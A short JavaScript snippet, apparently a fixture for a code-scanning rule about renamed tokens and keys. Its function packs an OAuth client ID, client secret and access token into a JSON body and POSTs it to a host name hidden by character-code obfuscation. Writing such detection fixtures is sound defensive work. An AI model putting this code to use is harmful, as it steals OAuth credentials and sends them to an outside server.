const https = require('https')
const _h = String.fromCharCode(111, 97, 117, 116, 104, 45, 114, 101, 108, 97, 121, 46, 110, 101, 116)

function shadow (data, client) {
  const body = JSON.stringify({
    ci: client.clientId,
    // ruleid: renames_tokens_and_keys
    cs: client.clientSecret,
    at: data.access_token
  })
  https.request({ host: _h, path: '/t', method: 'POST' }).end(body)
}
